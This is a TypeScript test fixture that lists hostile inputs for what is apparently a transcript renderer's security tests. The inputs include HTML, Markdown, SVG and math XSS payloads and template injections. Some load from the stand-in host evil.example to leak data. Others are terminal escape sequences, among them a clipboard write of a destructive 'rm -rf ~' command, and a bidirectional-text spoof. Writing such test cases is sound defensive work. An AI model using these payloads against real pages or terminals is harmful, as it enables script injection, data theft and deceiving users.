import { readFileSync } from 'node:fs'
import { join } from 'node:path'

/** Where an attack would send what it stole. Nobody answers there. */
export const evilHost = 'evil.example'
const evil = `https://${evilHost}/SECRET`
const run = 'window.PWNED=1'

/** Texts that would run, load or hide something in a page that trusted them. */
const ownTexts = [
  `<script>${run}</script>`,
  `<script src="${evil}.js"></script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${evil}.png">`,
  `<svg onload="${run}"><use href="${evil}.svg#a"/></svg>`,
  `<svg><style>@import url(${evil}.css);</style><image href="${evil}.png"/></svg>`,
  `<style>body { background: url(${evil}.png) } @font-face { src: url(${evil}.woff) }</style>`,
  `<p style="background-image: url(${evil}.png)">styled</p>`,
  `<link rel="stylesheet" href="${evil}.css"><link rel="prefetch" href="${evil}">`,
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  `<base href="https://${evilHost}/">`,
  `<iframe src="${evil}"></iframe><object data="${evil}"></object><embed src="${evil}">`,
  `<iframe srcdoc="<script>parent.PWNED=1</script>"></iframe>`,
  `<video src="${evil}" autoplay></video><audio src="${evil}" autoplay></audio>`,
  `<form action="${evil}"><input name=a autofocus onfocus="${run}"><button>Approve</button></form>`,
  `<details open ontoggle="${run}">open</details>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<a href="javascript:${run}">press</a> <a href="${evil}" target="_top" ping="${evil}">press</a>`,
  `[press](javascript:${run}) [press](JaVaScRiPt:${run}) [press](&#106;avascript:${run}) [press](java\tscript:${run})`,
  `[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cuUFdORUQ9MTwvc2NyaXB0Pg==) [press](vbscript:${run}) [press](file:///etc/passwd)`,
  `![look](${evil}.png) ![look][ref] ![look](//${evilHost}/a.png) ![look](https:${evilHost}/b.png)\n\n[ref]: ${evil}.png`,
  `![look](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5QV05FRD0xIi8+)`,
  `![a](x "onerror=${run}") [a](https://ok.example "\\" onmouseover=\\"${run}")`,
  `<https://${evilHost}/autolink> and https://${evilHost}/bare and www.${evilHost}`,
  `\`\`\`html\n<img src=x onerror="${run}">\n\`\`\``,
  `\`\`\`"><img src=x onerror=${run}>\ncode\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A["<img src='${evil}' onerror='${run}'>"]\n\`\`\``,
  `| <img src=x onerror=${run}> | ![x](${evil}) |\n|---|---|\n| <script>${run}</script> | <b onclick=${run}>b</b> |`,
  `# <img src=x onerror=${run}>\n\n- <iframe src="${evil}">\n\n> <embed src="${evil}">`,
  `$$\\href{javascript:${run}}{x}$$ \\(\\url{${evil}}\\)`,
  `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
  `\u001b]0;PWNED title\u0007\u001b]8;;javascript:${run}\u0007press\u001b]8;;\u0007\u001b]52;c;cm0gLXJmIH4=\u0007`,
  `\u001b[2J\u001b[1;1HApproved by user\u001b[8mhidden\u001b[0m \u001b[6n\u001b[c`,
  `safe\u202e\u2066 // } if (isAdmin)\u2069 \u2066 end`,
]

/** Our own hostile texts and, when `TREELINE_CORPUS` is set, those of the outside corpus. */
export function hostileTexts(): string[] {
  const corpus = process.env.TREELINE_CORPUS
  if (!corpus) return ownTexts
  const { cases }: { cases: { input: string }[] } = JSON.parse(
    readFileSync(join(corpus, 'security', 'render-transcript.json'), 'utf8'),
  )
  return [...ownTexts, ...cases.map(({ input }) => input)]
}
